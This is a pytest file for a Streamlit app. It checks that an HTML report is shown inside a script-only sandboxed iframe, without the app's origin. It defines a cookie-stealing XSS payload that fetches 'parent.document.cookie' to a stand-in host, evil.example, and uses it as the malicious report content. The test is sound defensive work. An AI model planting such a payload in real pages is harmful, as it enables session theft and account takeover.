"""The app against an attacker, in AppTest: reports shown sandboxed, forged cookies, sign-in throttling."""

from __future__ import annotations

from html.parser import HTMLParser
from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

from netra_core.db.models import Reference
from netra_core.db.orgs import fetch_org
from tests.app_helpers import make_app_db, open_app, sign_in

STEALER = "<script>fetch('http://evil.example/?c=' + parent.document.cookie)</script><p>Weekly report</p>"


@pytest.fixture
def sessions():  # type: ignore[no-untyped-def]
    engine, factory = make_app_db([("alice", "acme", "admin"), ("victor", "acme", "viewer")])
    yield factory
    engine.dispose()


class _Frames(HTMLParser):
    """The iframes of a document, with their attributes, and whether any script runs in it."""

    def __init__(self) -> None:
        super().__init__()
        self.frames: list[dict[str, str | None]] = []
        self.scripts = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "iframe":
            self.frames.append(dict(attrs))
        self.scripts += tag == "script"


def test_a_report_is_shown_in_a_sandbox_without_the_apps_origin(sessions, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    report = tmp_path / "weekly_cost_report-acme-1.html"
    report.write_text(STEALER, encoding="utf-8")
    with sessions.begin() as s:
        s.add(Reference(org_id=fetch_org(s, "acme").id, name=report.stem, kind="report", description="rendered",
                        payload={"report": "weekly_cost_report", "html_path": str(report)}))  # fmt: skip
    at = sign_in(open_app(), "victor").switch_page("views/reports.py").run()
    at = at.toggle(key=f"show_{report.stem}").set_value(True).run()
    assert not at.exception, at.exception
    frames = at.get("iframe")
    assert len(frames) == 1
    outer = _Frames()
    outer.feed(frames[0].proto.srcdoc)  # what runs with the app's origin
    assert outer.scripts == 0
    [inner] = outer.frames
    assert inner["sandbox"] == "allow-scripts"  # charts run; no allow-same-origin, no popups, no navigation
    assert inner["srcdoc"] == STEALER
